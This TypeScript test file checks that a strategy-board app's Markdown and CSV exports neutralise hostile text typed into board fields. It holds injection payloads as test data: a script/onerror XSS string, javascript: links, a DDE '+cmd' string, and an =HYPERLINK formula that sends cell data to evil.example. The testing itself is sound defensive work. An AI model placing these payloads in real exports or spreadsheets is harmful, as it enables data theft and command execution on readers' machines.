import { describe, expect, it } from "vitest";
import { csvText, escapeMarkdown } from "./escape";
import {
  HEALTH_DIMENSIONS,
  SUMMARY_FIELDS,
  type TemplateInstance,
  healthRecordId,
  parseBoard,
  summaryRecordId,
} from "@quadrant/board-model";
import { carryHealthToSwot } from "./carry-health";
import { exportBoard, exportOneDecision } from "./export-board";
import type { ExportParticipant } from "./brief-outcomes";
import { FixtureBoard, FULL_BRIEF_HEADINGS } from "./testing/fixture-board";

/**
 * RULES 17–18 against hostile text in every field a person can type: the brief
 * and the CSV of a board full of it have exactly the structure of the same
 * board with harmless text, and no cell can run as a formula.
 */

const HOSTILE = [
  "</script><img src=x onerror=alert(1)>",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\u0000=1",
  "  =1+1",
  "＝1+1",
  "| pipes | in | cells |",
  "[link](javascript:alert(1))",
  "![x](http://evil.example/t.png)",
  "# Heading\n## Another\nline",
  "note\n\n| x | y |\n|---|---|",
  "- list\n1. item\n> quote\n2) more",
  "`code` **bold** _em_ ~~strike~~ <b>html</b>",
  "<!-- comment --> &lt;b&gt; &amp;",
  "\\ backslash \\| pipe \\",
  "line\u2028separator\u2029paragraph",
];

/** The same board twice: once with `text(i)` = the i-th hostile string, once with a harmless word. */
function board(text: (i: number) => string) {
  let i = 0;
  const next = () => text(i++ % HOSTILE.length);
  const b = new FixtureBoard();
  const matrix = b.addTemplate("impact-effort", 0, 0, 900, 900);
  const swot = b.addTemplate("swot", 1200, 0, 800, 800);
  b.addTemplate("theme-map", 0, 1200, 1600, 800);
  const instance = b.snapshot.templates[matrix.id];
  if (instance) {
    instance["title"] = next();
    instance["zones"] = (instance["zones"] as { name: string }[]).map((z) => ({ ...z, name: next() }));
  }
  const notes = HOSTILE.map((_, n) => b.addScored(matrix, 1 + (n % 10), 1 + ((n * 3) % 10), next(), { author: next(), urgency: 5, risk: 5 }));
  b.addNote({ x: 1400, y: 200 }, next());
  b.addRecord({ kind: "pairing", id: "pair-1", templateId: swot.id, pairing: "SO", text: next(), itemIds: notes.slice(0, 2) });
  b.addTheme(100, 1300, 600, 500, { name: next(), driver: next(), implication: next(), criteria: next(), timeline: next() });
  b.addRecord({ kind: "vision", id: "vision", text: next() });
  b.addRecord({
    kind: "decision",
    id: "dec-1",
    number: 1,
    status: "accepted",
    date: "2026-12-01",
    deciders: next(),
    title: next(),
    context: next(),
    decision: next(),
    consequences: { positive: next(), negative: next(), neutral: next() },
    alternatives: [{ option: next(), whyNot: next() }],
    implementation: next(),
    reviewDate: "",
    noteIds: [],
    history: [],
    createdAt: 1,
  });
  return addOutcomeFields(b, next, { matrixNotes: notes, swot });
}

/**
 * Issue 14's fields, every one a person can type: the summary, principles, owners, a dropped
 * reason, ADRs with each kind of evidence and dissent, actions, a health scorecard (its title,
 * evidence and impact, a note carried from it) and who took part.
 */
function addOutcomeFields(
  b: FixtureBoard,
  next: () => string,
  at: { matrixNotes: string[]; swot: TemplateInstance },
): { board: FixtureBoard; participants: ExportParticipant[] } {
  for (const field of SUMMARY_FIELDS) b.addRecord({ kind: "summary", id: summaryRecordId(field), field, text: next() });
  b.addRecord({ kind: "principle", id: "pr-1", order: 1, title: next(), meaning: next() });
  const [first = "", second = "", third = ""] = at.matrixNotes;
  Object.assign(b.snapshot.notes[first] ?? {}, { owner: next(), due: "2027-Q1" });
  Object.assign(b.snapshot.notes[second] ?? {}, { dropped: { reason: next() } });
  const theme = Object.values(b.snapshot.records).find((r) => r["kind"] === "theme");
  if (theme) Object.assign(theme, { owner: next(), due: "2027-03-31" });
  const adr = (number: number, extra: Record<string, unknown>) =>
    b.addRecord({
      kind: "decision",
      id: `dec-${number}`,
      number,
      status: "superseded",
      supersededBy: 1,
      date: "2026-12-02",
      deciders: next(),
      title: next(),
      themeId: theme ? String(theme["id"]) : undefined,
      context: next(),
      decision: next(),
      consequences: { positive: next(), negative: next(), neutral: next() },
      alternatives: [{ option: next(), whyNot: next() }, { option: next(), whyNot: next() }],
      implementation: next(),
      reviewDate: "2027-06-01",
      noteIds: [third],
      history: [{ at: 5, status: "proposed", by: next() }],
      createdAt: number,
      ...extra,
    });
  adr(2, {
    evidence: { kind: "vote", items: [{ noteId: third, label: next(), votes: 3 }] },
    dissent: { kind: "named", entries: [{ who: next(), why: next() }] },
  });
  adr(3, {
    evidence: {
      kind: "scoring",
      items: [{ noteId: third, label: next(), meanImpact: 5, spreadImpact: 2, meanEffort: 4, spreadEffort: 1, discuss: true }],
    },
    dissent: { kind: "anonymous", count: 2, note: next() },
  });
  adr(4, { evidence: { kind: "notes", items: [{ noteId: third, label: next() }] } });
  b.addRecord({ kind: "action", id: "act-1", text: next(), owner: next(), due: "2027-Q2", done: false, link: { kind: "decision", id: "dec-2" }, createdAt: 1 });
  b.addRecord({ kind: "action", id: "act-2", text: next(), owner: next(), due: "", done: true, link: { kind: "note", id: third }, createdAt: 2 });
  const scorecard = b.addTemplate("health-scorecard", 2200, 0, 900, 900);
  const instance = b.snapshot.templates[scorecard.id];
  if (instance) instance["title"] = next();
  for (const dimension of HEALTH_DIMENSIONS) {
    b.addRecord({ kind: "health", id: healthRecordId(scorecard.id, dimension), templateId: scorecard.id, dimension, rating: 2, evidence: next(), impact: next() });
  }
  b.addNote({ x: 2650, y: 60 }, next());
  const security = parseBoard(b.snapshot).records.find((r) => r.kind === "health" && r.dimension === "security");
  const carried = security?.kind === "health" ? carryHealthToSwot(security, scorecard, at.swot, { x: 1200, y: 0, width: 800, height: 800 }, [], b.ctx) : null;
  if (!carried) throw new Error("nothing carried");
  b.addBuilt(carried);
  const participants: ExportParticipant[] = [
    { name: next(), role: "facilitator" },
    { name: next(), role: "editor" },
    { name: next(), role: "viewer" },
  ];
  return { board: b, participants };
}

type HostileBoard = ReturnType<typeof board>;

function inputOf({ board: b, participants }: HostileBoard, title: string) {
  return { snapshot: b.snapshot, title, template: "impact-effort" as const, exportedAt: new Date(0), votes: new Map(), participants };
}

function exportOf(b: HostileBoard, format: "md" | "csv", title: string): string {
  const input = inputOf(b, title);
  expect(parseBoard(input.snapshot).problems).toEqual([]);
  return exportBoard(format, input).body;
}

/** RULE 17: every table keeps its columns: each row has as many unescaped pipes as its header. */
function expectTablesIntact(lines: readonly string[]): void {
  const pipes = (l: string) => l.replace(/\\\|/g, "").split("|").length - 1;
  let header: number | null = null;
  for (const line of lines) {
    if (!line.startsWith("|")) {
      header = null;
      continue;
    }
    header ??= pipes(line);
    expect(pipes(line), line).toBe(header);
  }
}

/** The Markdown a line opens with (heading, list item, table row, emphasis), or "" for plain text. */
function skeleton(line: string): string {
  return /^(#{1,6} |\| |- \*\*|- |\*\*|_|\d+\. |> )/.exec(line)?.[0] ?? "";
}

/** RFC 4180 parsing, enough to read our own output back. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const body = csv.replace(/^\uFEFF/, "");
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && body[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

describe("hostile text in exports (RULES 17, 18)", () => {
  const hostileTitle = "Q3 </script><script>alert(1)</script> | =1+1 [x](javascript:y)";

  it("Markdown: the brief of a hostile board has the structure of a harmless one; no HTML, link or cell escapes", () => {
    const hostile = exportOf(board((i) => HOSTILE[i] ?? ""), "md", hostileTitle).split("\n");
    const harmless = exportOf(board(() => "x"), "md", "x").split("\n");
    expect(hostile.map(skeleton)).toEqual(harmless.map(skeleton));
    const text = hostile.join("\n");
    expect(text).not.toMatch(/</);
    expect(text).not.toMatch(/(?<!\\)[[\]`]/);
    expect(text).toContain("\\`code\\` \\*\\*bold\\*\\* \\_em\\_ \\~\\~strike\\~\\~");
    expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
    for (const line of hostile.filter((l) => /^\| \d/.test(l))) {
      expect(line.replace(/\\\|/g, "").split("|").length - 1, line).toBe(15);
    }
    expectTablesIntact(hostile);
    expect(text).not.toMatch(/undefined|\bnull\b/);
    // every section of issue 14 is in it, so each new field went through the check above
    expect(hostile.filter((l) => l.startsWith("## "))).toEqual(FULL_BRIEF_HEADINGS);
    expect(hostile[0]).toBe("# Strategy brief: Q3 &lt;/script&gt;&lt;script&gt;alert\\(1\\)&lt;/script&gt; \\| =1\\+1 \\[x\\]\\(javascript:y\\)");
  });

  it("Markdown: each ADR alone (RULE 31) has the structure of a harmless one", () => {
    for (const n of [1, 2, 3, 4]) {
      const hostile = exportOneDecision(inputOf(board((i) => HOSTILE[i] ?? ""), hostileTitle), n)?.body.split("\n") ?? [];
      const harmless = exportOneDecision(inputOf(board(() => "x"), "x"), n)?.body.split("\n") ?? [];
      expect(hostile.length, `ADR ${n}`).toBeGreaterThan(8);
      expect(hostile.map(skeleton)).toEqual(harmless.map(skeleton));
      expectTablesIntact(hostile);
      expect(hostile.join("\n")).not.toMatch(/<|undefined|\bnull\b/);
      expect(hostile.join("\n")).not.toMatch(/(?<!\\)[[\]`]/);
    }
  });

  it("Markdown: each hostile string becomes one inert line", () => {
    for (const h of HOSTILE) {
      const out = escapeMarkdown(h);
      expect(out).not.toMatch(/[\r\n\u2028\u2029]/);
      expect(out).not.toMatch(/^(#|>|-|\+|\d+[.)]|\||`|~)/);
      expect(out).not.toMatch(/[<>]/);
    }
  });

  it("CSV: every row has every column; no text cell can start a formula; text survives behind the apostrophe", () => {
    const b = board((i) => HOSTILE[i] ?? "");
    const rows = parseCsv(exportOf(b, "csv", hostileTitle));
    const [header, ...data] = rows;
    expect(header).toHaveLength(18);
    expect(data.length).toBeGreaterThanOrEqual(HOSTILE.length);
    const textColumns = [0, 1, 2, 3, 4, 11, 12, 13, 14, 15, 16];
    for (const row of data) {
      expect(row).toHaveLength(18);
      for (const c of textColumns) {
        const cell = row[c] ?? "";
        expect(cell, `column ${header?.[c]}: ${JSON.stringify(cell)}`).not.toMatch(/^[\t\r\n\0]|^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
      }
    }
    const cells = data.flatMap((row) => textColumns.map((c) => row[c]));
    for (const kept of [`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0", "'＝1+1", "| pipes | in | cells |"]) {
      expect(cells).toContain(kept);
    }
  });

  it("CSV: csvText neutralises every formula start, quotes what RFC 4180 needs and leaves plain text alone", () => {
    expect(csvText("  =1+1")).toBe("'  =1+1");
    expect(csvText("＝1+1")).toBe("'＝1+1");
    expect(csvText("\u0000=1")).toBe("'\u0000=1");
    expect(csvText("\n=1")).toBe(`"'\n=1"`);
    expect(csvText("a,b")).toBe(`"a,b"`);
    expect(csvText('say "hi"')).toBe(`"say ""hi"""`);
    expect(csvText("Plain text 1+1=2")).toBe("Plain text 1+1=2");
  });
});
